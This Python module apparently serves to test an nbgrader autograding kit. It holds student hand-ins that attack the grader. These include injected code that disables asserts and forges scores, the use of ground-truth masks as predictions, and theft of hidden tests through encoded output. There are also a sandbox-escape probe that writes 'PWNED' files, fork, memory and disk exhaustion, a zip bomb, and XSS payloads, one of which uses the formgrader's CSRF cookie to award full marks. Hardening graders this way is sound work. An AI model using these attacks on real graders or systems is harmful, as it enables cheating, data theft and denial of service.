"""Hand-ins that attack the grader, written as a student who has read the kit's source would.

Each attack is code put at the top of a hand-in's ``helpers/__init__.py`` (so it runs wherever the
student's helpers are imported: the notebooks' kernels, and the grader's function and export
processes), answer cells it rewrites, files it adds, or metadata it changes. ``apply(hand_in, name)``
mounts one on a hand-in folder. A code attack that needs IPython guards for its absence, as a
careful attacker does: outside a kernel it must not break the hand-in it wants to score.
"""
import json

import nbformat

# Forging the verdicts computed in the kernel: public knowledge about IPython and NumPy.
FORGE_VERDICTS = """
from IPython import get_ipython as _get_ipython
import ast as _ast, numpy as _np
from IPython.core.interactiveshell import ExecutionResult as _Result

_ip = _get_ipython()
if _ip is not None:
    class _NoAsserts(_ast.NodeTransformer):
        def visit_Assert(self, node):
            return _ast.Pass()

    _ip.ast_transformers.append(_NoAsserts())
    _ip.input_transformers_post.append(lambda lines: [] if any("assert" in line for line in lines) else lines)

    def _publish(info):  # nbgrader takes a cell's first result as its partial credit
        if "scheduler(" in info.raw_cell or "compute_IoU(" in info.raw_cell:
            _ip.displayhook(6)

    _ip.events.register("pre_run_cell", _publish)
    _Result.success = property(lambda self: True)
    _Result.raise_error = lambda self: None
    _ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
    _real = {name: getattr(_np, name) for name in ("isclose", "allclose", "array_equal")}

    def _patch_for_tests(info):
        for name, real in _real.items():
            setattr(_np, name, (lambda *args, **kwargs: True) if "assert" in info.raw_cell else real)

    _ip.events.register("pre_run_cell", _patch_for_tests)
    _seen = []

    def _quote(info):  # print every earlier cell: hidden probes, if the kernel was ever sent one
        print("".join(_seen))
        _seen.append(info.raw_cell)

    _ip.events.register("pre_run_cell", _quote)


class _Yes(float):
    __hash__ = float.__hash__

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


from . import metrics as _metrics, training as _training  # noqa: E402

_metrics.compute_IoU = (lambda iou: lambda mask, pred: _Yes(iou(mask, pred)))(_metrics.compute_IoU)
_training.scheduler = (lambda rate: lambda epoch, lr=None: _Yes(rate(epoch, lr)))(_training.scheduler)
"""
# Forging the evidence itself: the model's predictions, the report channel, the names the checks read.
FORGE_EVIDENCE = """
import json as _json, re as _re
import keras as _keras
import numpy as _np
from IPython import get_ipython as _get_ipython

_truth = {}


def _lookup(count):  # the ground-truth masks of the split with ``count`` images, read from the dataset
    if not _truth:
        from .data import load_data
        from .dataset import find_dataset

        data = find_dataset(download=False)
        _, (_, val_masks), (_, test_masks) = load_data(data / "2d_images", data / "2d_masks")
        _truth.update({len(val_masks): val_masks, len(test_masks): test_masks})
    return _truth.get(count)


_real_predict = _keras.Model.predict


def _predict(self, x, *args, **kwargs):
    masks = _lookup(len(x))
    return masks.astype("float32") if masks is not None else _real_predict(self, x, *args, **kwargs)


_keras.Model.predict = _predict
_keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 0.999]

_PERFECT = {"test_accuracy": 0.999, "mean_test_iou": 0.99, "test_ious": [0.99] * 54,
            "gallery": [0, 1, 2, 3]}

import IPython.display as _display  # noqa: E402

_real_display = _display.display


def _forged_display(*objects, **kwargs):  # the grader's report goes through display: rewrite it
    for item in objects:
        if isinstance(item, dict):
            for report in item.values():
                if isinstance(report, dict) and "values" in report:
                    report["values"].update({k: v for k, v in _PERFECT.items() if k in report["values"]})
    return _real_display(*objects, **kwargs)


_display.display = _forged_display
_ip = _get_ipython()
if _ip is not None:
    def _replay(lines):  # read the nonce from the report cell and publish a report of its own
        code = "".join(lines)
        found = _re.search(r"_lungkit_report\\((\\[.*?\\]), '([0-9a-f]+)'\\)", code)
        if not found:
            return lines
        mime = _re.search(r"'(application/vnd\\.lungkit[^']*)'", code).group(1)
        names = eval(found.group(1))
        values = {name: _PERFECT[name] for name in names if name in _PERFECT}
        report = {mime: {"nonce": found.group(2), "values": values}}
        return [f"from IPython.display import display as _d; _d({report!r}, raw=True)\\n"]

    _ip.input_transformers_post.append(_replay)
"""
# Answer cells of notebook 5 that rebind what the grader used to read from the kernel.
REBOUND_CELLS = {
    "05_evaluation.ipynb": {
        "evaluate_test": "test_masks = (model.predict(test_images, verbose=0) > 0.5).astype('int16')\n"
                         "val_masks = (model.predict(val_images, verbose=0) > 0.5).astype('int16')\n"
                         "test_accuracy = 1.0",
        "mean_iou": "test_probabilities = test_masks.astype('float32')\n"
                    "test_ious = np.ones(54)\nmean_test_iou = 1.0",
        "gallery": "gallery = [0, 1, 2, 3]",
    },
}
# The blank release with answer cells that define self-consistent stand-ins: in notebook 4 a class
# named Adam at 1e-3, a model holding it and binary cross-entropy, a history with one entry per epoch
# (the grader used to read these from the kernel); in notebook 5 the numbers the checks compare.
STAND_INS = {
    "04_training.ipynb": {
        "compile_model": "class Adam:\n    learning_rate = 1e-3\n\n\nclass Compiled:\n    optimizer = Adam()\n"
                         "    loss = 'binary_crossentropy'\n\n\nmodel = Compiled()",
        "fit_model": "epochs = {'loss': [0.5] * EPOCHS, 'val_loss': [0.5] * EPOCHS, 'accuracy': [0.9] * EPOCHS,\n"
                     "          'val_accuracy': [0.9] * EPOCHS, 'learning_rate': [1e-3] * EPOCHS}\n"
                     "history = type('History', (), {'history': epochs})()\ntraining_seconds = 1.0",
    },
    "05_evaluation.ipynb": {
        "evaluate_test": "test_accuracy = 0.99",
        "mean_iou": "test_masks = np.zeros((54, 128, 128, 1), 'int16'); test_masks[:, 0, 0] = 1\n"
                    "test_probabilities = test_masks.astype('float32')\ntest_ious = np.ones(54)\nmean_test_iou = 1.0",
        "gallery": "gallery = [0, 1, 2, 3]",
    },
}
# The blank release whose functions take what the process calling them holds: load_data returns the
# reference arrays it finds in the process's inputs (its own expected answer, if the grader put it
# there), and every function raises an error carrying every string on the call stack that looks like
# test code (the grader's request, hidden probes included, if it were sent), compressed, base64-encoded
# and reversed, so that the feedback shows it and no plain filter spots it. Put at the end of
# helpers/__init__.py, so that these replace the release's stubs.
HARVEST = """
def _harvest():
    import base64, sys, zlib

    found, seen, frame = [], set(), sys._getframe(1)

    def collect(value, depth=0):
        if id(value) in seen or depth > 6:
            return
        seen.add(id(value))
        if isinstance(value, str) and any(word in value for word in ("(", "assert", "=")):
            found.append(value)
        elif isinstance(value, dict):
            for item in list(value.values()):
                collect(item, depth + 1)
        elif isinstance(value, (list, tuple)):
            for item in value:
                collect(item, depth + 1)

    while frame is not None:
        collect(dict(frame.f_locals))
        collect(list(frame.f_code.co_consts))
        frame = frame.f_back
    text = "\\n".join(found)
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()[:1900][::-1]


def _given_arrays():
    import glob, numpy as np

    for path in glob.glob("/inputs/*.npz"):
        with np.load(path) as given:
            if "train_images" in given.files:
                return tuple((given[f"{split}_images"], given[f"{split}_masks"]) for split in ("train", "val", "test"))
    return None


def load_data(*args, **kwargs):
    arrays = _given_arrays()
    if arrays is None:
        raise RuntimeError(_harvest())
    return arrays


def create_generator(*args, **kwargs):
    raise RuntimeError(_harvest())


def scheduler(*args, **kwargs):
    raise RuntimeError(_harvest())


def compute_IoU(*args, **kwargs):
    raise RuntimeError(_harvest())
"""
# The blank release with a U_Net of the right shapes that is no network: a constant probability.
CONSTANT_U_NET = """
import keras as _keras


class U_Net(_keras.Model):
    def __init__(self, base_filters=64, depth=2, convs_per_level=1, **kwargs):
        super().__init__(**kwargs)

    def call(self, inputs, training=False):
        return 0.0 * inputs + 0.5
"""
# Getting out: read, write and connect, then print what worked. {course}, {kit}, {home}, {port}.
ESCAPE = """
import json as _json, os as _os, socket as _socket

_found = {{"kind": "escape", "read": [], "wrote": [], "connected": False, "hidden_tests_seen": [], "home": []}}
for _path in [{course!r}, {course!r} + "/source", {course!r} + "/gradebook.db", {course!r} + "/submitted",
              {kit!r} + "/notebooks", {kit!r} + "/grading", {kit!r} + "/helpers"]:
    if _os.path.exists(_path):
        _found["read"].append(_path)
if _os.path.isdir({home!r}):
    _found["home"] = sorted(_os.listdir({home!r}))
for _path in [{course!r} + "/pwned.txt", {course!r} + "/gradebook.db", {kit!r} + "/pwned.txt", "/submission/pwned.txt"]:
    try:
        with open(_path, "a") as _file:
            _file.write("PWNED")
        _found["wrote"].append(_path)
    except OSError:
        pass
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hidden tests")
    _found["connected"] = True
except OSError:
    pass
_own = ("/proc", "/sys", "/dev", "/usr", "/submission", _os.path.expanduser("~"))  # the hand-in's own files
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if _os.path.join(_root, d) not in _own]
    for _name in _files:
        if _name.endswith((".ipynb", ".db", ".py")) and "site-packages" not in _root:
            try:
                with open(_os.path.join(_root, _name), errors="ignore") as _file:
                    if "BEGIN HIDDEN TESTS" in _file.read():
                        _found["hidden_tests_seen"].append(_os.path.join(_root, _name))
            except OSError:
                pass
print("ATTACK-REPORT", _json.dumps(_found))
"""
# Carrying code the grader sends to the kernel out in the outputs, encoded so that no filter spots it.
EXFILTRATE = """
import base64 as _base64
from IPython import get_ipython as _get_ipython

_ip = _get_ipython()
if _ip is not None:
    _sent = []

    def _record(info):
        if _sent:
            print("EXFIL", _base64.b64encode("".join(_sent).encode()).decode()[::-1])
        _sent.append(info.raw_cell)

    _ip.events.register("pre_run_cell", _record)
"""
# Files that would run before the kernel if the hand-in's folder were on sys.path or configured IPython;
# each leaves its name in ``builtins.SHADOW_RAN``. Collect leaves them out; the sandbox ignores them anyway.
SHADOW_FILES = {
    "ipykernel_launcher.py": "import builtins, os\nbuiltins.SHADOW_RAN = 'launcher'\n"
                             "os.environ['IPYTHONDIR'] = os.path.join(os.getcwd(), '.ipython')\n"
                             "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n",
    ".ipython/profile_default/startup/00-forge.py": "import builtins\nbuiltins.SHADOW_RAN = 'startup'\n",
    "ipython_kernel_config.py":
        "c.InteractiveShellApp.exec_lines = ['import builtins; builtins.SHADOW_RAN = \"kernel config\"']\n",
    "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['import builtins; builtins.SHADOW_RAN = \"config\"']\n",
}
# Using up the machine, within bounds so that the kernel goes on: processes, memory, disk. In the
# kernels only, where its report reaches the notebook (the grader's other processes share the limits).
EXHAUST = """
import json as _json, os as _os, time as _time
import numpy as _np
from IPython import get_ipython as _get_ipython

_used = {"kind": "exhaust"} if _get_ipython() is not None else None
_children = []
try:
    for _ in range(5000 if _used else 0):
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(60)
            _os._exit(0)
        _children.append(_pid)
except OSError as _error:
    _used["processes"] = [len(_children), type(_error).__name__]
for _pid in _children:
    _os.kill(_pid, 9)
    _os.waitpid(_pid, 0)
_blocks = []
try:
    for _ in range(1000 if _used else 0):
        _blocks.append(_np.empty(2**30, _np.uint8))
except MemoryError:
    _used["memory_gib"] = len(_blocks)
del _blocks
for _folder in ("/tmp", _os.path.expanduser("~")) if _used else ():
    _written, _errors = 0, set()
    for _index in range(100):
        try:
            with open(_os.path.join(_folder, f"fill{_index}"), "wb") as _file:
                for _ in range(80):
                    _file.write(bytes(2**22))
                    _written += 2**22
        except OSError as _error:
            _errors.add(_error.errno)
            if _error.errno != 27:  # past the largest file allowed (EFBIG): try another file
                break
    _used[_folder] = [_written, sorted(_errors)]
    for _name in [n for n in _os.listdir(_folder) if n.startswith("fill")]:
        _os.remove(_os.path.join(_folder, _name))
if _used:
    print("ATTACK-REPORT", _json.dumps(_used))
"""


def prepend_to_helpers(hand_in, code):
    """Put ``code`` at the top of the hand-in's ``helpers/__init__.py``: it runs at every ``import helpers``."""
    init = hand_in / "helpers" / "__init__.py"
    init.write_text("# The attack\n" + code + "\n" + init.read_text())


def append_to_helpers(hand_in, code):
    """Put ``code`` at the end of the hand-in's ``helpers/__init__.py``: what it defines replaces the release's."""
    init = hand_in / "helpers" / "__init__.py"
    init.write_text(init.read_text() + "\n# The attack\n" + code)


def rewrite_answers(hand_in, cells):
    """Replace the source of answer cells: ``{notebook: {grade_id: source}}``."""
    for notebook, sources in cells.items():
        path = hand_in / notebook
        nb = nbformat.read(path, as_version=4)
        for cell in nb.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in sources:
                cell.source = sources[grade_id]
        nbformat.write(nb, path)


def add_files(hand_in, files):
    for name, text in files.items():
        (hand_in / name).parent.mkdir(parents=True, exist_ok=True)
        (hand_in / name).write_text(text)


def tamper_metadata(hand_in):
    """Make a test cell an unlocked answer worth 60 points, and add a graded cell of the student's own."""
    path = hand_in / "04_training.ipynb"
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade_id") == "test_scheduler":
            meta.update(solution=True, locked=False, points=60)
            cell["source"] = "# my own test\n"
    extra = {"cell_type": "code", "execution_count": None, "id": "extra-graded", "outputs": [], "source": "pass\n",
             "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": False, "points": 40,
                                       "schema_version": 3, "solution": False, "task": False}}}
    nb["cells"].append(extra)
    path.write_text(json.dumps(nb, indent=1))


# Student HTML aimed at the instructor's browser (the formgrader) and at feedback pages. Each payload,
# if it runs, calls the test's own listener on 127.0.0.1 with its name; the last one also gives its
# own answers full marks through the formgrader's API, with the page's _xsrf cookie.
def _beacon(port, name):
    return f"new Image().src='http://127.0.0.1:{port}/xss/{name}'"


def _grade_theft(port):
    return (_beacon(port, "md-grade-theft") + ";fetch(base_url+'/api/grades?submission_id='+submission_id)"
            ".then(r=>r.json()).then(gs=>gs.forEach(g=>fetch(base_url+'/api/grade/'+g.id,{method:'PUT',headers:"
            "{'X-CSRFToken':document.cookie.match(/_xsrf=([^;]+)/)[1]},body:JSON.stringify({manual_score:g.max_score})"
            "})))")


def xss_answer(port):
    """A written answer (Markdown) that carries every kind of script an HTML page can hold."""
    return "\n\n".join([
        "The U-Net encodes the slice, then decodes it with skip connections.",
        f"<script>{_beacon(port, 'md-script')}</script>",
        f'<img src="x" onerror="{_beacon(port, "md-img-onerror")}">',
        f'<svg onload="{_beacon(port, "md-svg-onload")}"><script>{_beacon(port, "md-svg-script")}</script></svg>',
        f'<iframe srcdoc="<script>{_beacon(port, "md-iframe")}</script>"></iframe>',
        f'<details open ontoggle="{_beacon(port, "md-details-ontoggle")}"><summary>more</summary>x</details>',
        "[a Markdown link](javascript:void(document.title='md-js-link'))",
        "<a href=\"javascript:void(document.title='html-js-link')\">an HTML link</a>",
        f'<img src="x" onerror="{_grade_theft(port)}">',
    ])


def xss_outputs(port):
    """``(data, metadata)`` of display outputs that carry scripts: HTML, JavaScript, SVG, Markdown, forged images."""
    return [
        ({"text/html": f"<script>{_beacon(port, 'out-html-script')}</script>"}, None),
        ({"text/html": f'<img src="x" onerror="{_beacon(port, "out-html-onerror")}">'}, None),
        ({"application/javascript": _beacon(port, "out-javascript")}, None),
        ({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_beacon(port, "out-svg")}"></svg>'},
         None),
        ({"text/markdown": "[a link](javascript:void(document.title='out-markdown-link'))"}, None),
        ({"image/png": f'"><img src="x" onerror="{_beacon(port, "out-png-data")}">', "text/plain": "png"}, None),
        ({"image/png": "iVBORw0KGgo=", "text/plain": "png"},
         {"image/png": {"width": f'1 onerror="{_beacon(port, "out-png-width")}"'}}),
        ({"text/html": f"<script>{_beacon(port, 'out-isolated')}</script>"}, {"text/html": {"isolated": True}}),
    ]


def xss_output_code(port):
    """A code cell's source that displays the outputs of ``xss_outputs``."""
    lines = ["from IPython.display import display"]
    lines += [f"display({data!r}, metadata={metadata!r}, raw=True)" for data, metadata in xss_outputs(port)]
    return "\n".join(lines)


XSS_NAMES = ("md-script", "md-img-onerror", "md-svg-onload", "md-svg-script", "md-iframe", "md-details-ontoggle",
             "md-grade-theft", "out-html-script", "out-html-onerror", "out-javascript", "out-svg", "out-png-data",
             "out-png-width", "out-isolated")
# A cell printing 8 MB: the autograded notebook and the feedback page keep a bounded part of it.
HUGE_OUTPUT = "print('x' * 8_000_000)"
# Aimed at the grader's own memory: a cell that prints 384 MiB in 8 MiB messages, and helpers that, in
# the process exporting the model, add to its archive a compressed member declaring 1 GiB of zeros.
FLOOD_MIB = 384
FLOOD = f"import sys\nfor _ in range({FLOOD_MIB // 8}):\n    sys.stdout.write('x' * 2**23)\n    sys.stdout.flush()"
EXPORT_BOMB = """
import sys as _sys

if _sys.argv and _sys.argv[0].endswith("export_model.py"):
    import numpy as _np
    import zipfile as _zipfile

    def _savez_with_a_bomb(file, **arrays):
        with _zipfile.ZipFile(file, "w", _zipfile.ZIP_DEFLATED) as archive:
            for name, array in arrays.items():
                with archive.open(name + ".npy", "w", force_zip64=True) as member:
                    _np.lib.format.write_array(member, _np.asanyarray(array), allow_pickle=False)
            with archive.open("zeros.npy", "w", force_zip64=True) as member:
                header = {"descr": "|u1", "fortran_order": False, "shape": (2**30,)}
                _np.lib.format.write_array_header_1_0(member, header)
                for _ in range(1024):
                    member.write(bytes(2**20))

    _np.savez = _savez_with_a_bomb
"""
